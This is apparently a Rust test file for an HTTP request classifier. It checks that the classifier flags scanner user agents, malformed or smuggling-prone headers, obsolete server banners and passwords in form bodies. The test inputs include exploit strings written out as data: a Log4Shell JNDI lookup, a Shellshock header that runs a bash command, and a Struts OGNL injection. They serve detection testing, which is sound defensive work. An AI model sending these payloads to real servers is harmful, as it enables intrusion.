use super::*;

fn names(risks: Risks) -> Vec<&'static str> {
    risks.iter().map(|about| about.name).collect()
}

#[test]
fn ordinary_addresses_show_nothing() {
    let mut wrong = Vec::new();
    for target in include_str!("ordinary.txt").lines() {
        let risks = judge_target(target.as_bytes());
        if !risks.is_empty() {
            wrong.push((target, names(risks)));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn attacks_are_seen_as_what_they_are() {
    let mut wrong = Vec::new();
    for line in include_str!("attacks.txt").lines() {
        let (name, target) = line.split_once('\t').unwrap();
        let risks = judge_target(target.as_bytes());
        if !names(risks).contains(&name) {
            wrong.push((line, names(risks)));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn agents() {
    for (agent, wanted) in [
        (&b"sqlmap/1.5.2#stable (http://sqlmap.org)"[..], "http_suspicious_agent"),
        (
            b"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            "http_suspicious_agent",
        ),
        (b"Mozilla/5.00 (Nikto/2.1.6)", "http_suspicious_agent"),
        (b"masscan/1.3", "http_suspicious_agent"),
        (b"Mozilla/5.0 zgrab/0.x", "http_suspicious_agent"),
        (b"gobuster/3.1.0", "http_suspicious_agent"),
        (
            b"WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
            "http_suspicious_agent",
        ),
        (b"Mozilla/4.0 (Hydra)", "http_suspicious_agent"),
        (b"${jndi:ldap://192.0.2.9/a}", "http_suspicious_agent"),
        (b"xKqvTzWpLdRbNgHs", "http_suspicious_agent"),
        (b"jndi:ldap://192.0.2.9/a", "http_suspicious_agent"),
        (b"-", "http_suspicious_agent"),
        (b"1.0", "http_suspicious_agent"),
        (b"Mozilla\x01", "http_suspicious_agent"),
        (
            b"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "http_crawler",
        ),
        (b"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", "http_crawler"),
        (b"SomeCrawler/1.0", "http_crawler"),
    ] {
        assert!(names(judge_agent(agent)).contains(&wanted), "{}", agent.escape_ascii());
    }
    for agent in [
        &b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0"[..],
        b"Mozilla/5.0 (Linux; Android 10; CUBOT NOTE 7) AppleWebKit/537.36 Mobile Safari/537.36",
        b"curl/7.68.0",
        b"CaptiveNetworkSupport",
        b"WinHttpClient",
        b"Wget/1.20.3 (linux-gnu)",
        b"Python-urllib/3.8",
        b"Microsoft-CryptoAPI/10.0",
        b"Debian APT-HTTP/1.3 (2.2.4)",
        b"Dalvik/2.1.0 (Linux; U; Android 9)",
        b"okhttp/3.12.1",
        b"VLC/3.0.8 LibVLC/3.0.8",
        b"Hydrant-Monitor and Commixture",
    ] {
        let risks = names(judge_agent(agent));
        let fine = risks.is_empty() || agent.starts_with(b"Hydrant");
        assert!(fine, "{} {risks:?}", agent.escape_ascii());
    }
}

fn lines(header: &[&[u8]]) -> Lines {
    let mut lines = Lines::default();
    for line in header {
        lines.read(line);
    }
    lines
}

#[test]
fn header_lines() {
    const AGENT: &[u8] = b"User-Agent: Mozilla/5.0 (X11; Linux) $price";
    for header in [
        &[AGENT, &b"Host: a"[..], b"Host: b"][..],
        &[AGENT, b"Content-Length: 5", b"Content-Length: 6"],
        &[AGENT, b"Content-Length: 5", b"Transfer-Encoding: chunked"],
        &[AGENT, b"Transfer-Encoding: xchunked"],
        &[AGENT, b"Host : a"],
        &[AGENT, b"no colon"],
        &[AGENT, b": empty"],
        &[AGENT, b"X: a\0b"],
        &[AGENT, b"Content-Length: +5"],
        &[AGENT, &[&b"X: "[..], &[b'x'; 7000]].concat()],
    ] {
        let risks = names(lines(header).of_request(true));
        assert_eq!(risks, ["http_suspicious_header"], "{}", header[1].escape_ascii());
    }
    for header in [
        &[AGENT, &b"X-Api: ${jndi:ldap://192.0.2.9/a}"[..]][..],
        &[AGENT, b"Cookie: () { :;}; /bin/bash -c 'id'"],
        &[AGENT, b"Referer: () { ignored; }; echo"],
        &[AGENT, b"Content-Type: %{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT)}"],
    ] {
        let risks = names(lines(header).of_request(true));
        assert_eq!(risks, ["known_exploit"], "{}", header[1].escape_ascii());
    }
    let ordinary: &[&[u8]] = &[
        AGENT,
        b"Host: www.example.com",
        b"Accept: */*",
        b"Cookie: a=b; c=${d}; e=$f",
        b"Content-Type: multipart/form-data; boundary=----x",
        b"Content-Length: 5",
        b"X-Empty:",
        b"\tand the line goes on",
        b"Content-Disposition: form-data; x=()",
    ];
    assert!(lines(ordinary).of_request(true).is_empty());
    assert!(lines(&[AGENT, b"Transfer-Encoding: gzip, chunked"]).of_request(true).is_empty());
    assert_eq!(names(lines(&ordinary[1..]).of_request(true)), ["http_suspicious_agent"]);
    assert!(lines(&ordinary[1..]).of_request(false).is_empty(), "it may still come");
    // Servers send both of these.
    let answer = lines(&[b"Content-Length: 5", b"Transfer-Encoding: chunked"]);
    assert!(answer.of_response().is_empty());
    let answer = lines(&[b"Content-Length: 5", b"Content-Length: 7"]);
    assert_eq!(names(answer.of_response()), ["http_suspicious_header"]);
}

#[test]
fn servers() {
    for server in [
        &b"Apache/2.2.15 (CentOS)"[..],
        b"nginx/1.18.0 (Ubuntu)",
        b"Microsoft-IIS/8.5",
        b"Apache/2.4.41 (Unix) OpenSSL/1.0.2k PHP/8.1",
        b"PHP/7.4.3",
        b"Apache-Coyote/1.1",
        b"Jetty(6.1.26)",
    ] {
        assert_eq!(
            names(judge_server(server)),
            ["http_obsolete_server"],
            "{}",
            server.escape_ascii()
        );
    }
    for server in [
        &b"Apache"[..],
        b"Apache/2.4.57 (Debian) OpenSSL/3.0.9",
        b"nginx/1.25.3",
        b"Microsoft-IIS/10.0",
        b"cloudflare",
        b"PHP/8.2.1",
        b"mod_apache/1.0",
        b"x-nginx/0.1",
        b"Jetty(9.4.43.v20210629)",
    ] {
        assert!(judge_server(server).is_empty(), "{}", server.escape_ascii());
    }
    assert_eq!(names(judge_status(404)), ["http_error_status"]);
    assert!(judge_status(304).is_empty());
}

#[test]
fn passwords_in_forms() {
    for form in [
        &b"user=joe&password=secret"[..],
        b"log=joe&pwd=x&wp-submit=1",
        b"user%5Bpassword%5D=x",
        b"PassWord=1",
    ] {
        assert!(has_password(form), "{}", form.escape_ascii());
    }
    for form in [
        &b"user=joe&password="[..],
        b"passenger=2",
        b"q=password",
        b"password",
        b"reset_password=1x",
    ] {
        assert!(!has_password(form), "{}", form.escape_ascii());
    }
}

proptest::proptest! {
    #[test]
    fn any_bytes_are_survived(bytes in proptest::collection::vec(
        proptest::prelude::prop_oneof![
            proptest::num::u8::ANY,
            proptest::sample::select(b"%25'\"./;|&=<>()${}# ounri".to_vec()),
        ],
        0..400,
    )) {
        let _ = judge_target(&bytes);
        let _ = judge_form(&bytes);
        let _ = judge_agent(&bytes);
        let _ = judge_server(&bytes);
        let mut lines = Lines::default();
        lines.read(&bytes);
    }
}

#[test]
fn every_crawler_has_a_rare_pair() {
    for name in CRAWLER_NAMES {
        assert!(has_pair_of(name, &CRAWLER_PAIRS), "{}", name.escape_ascii());
    }
}
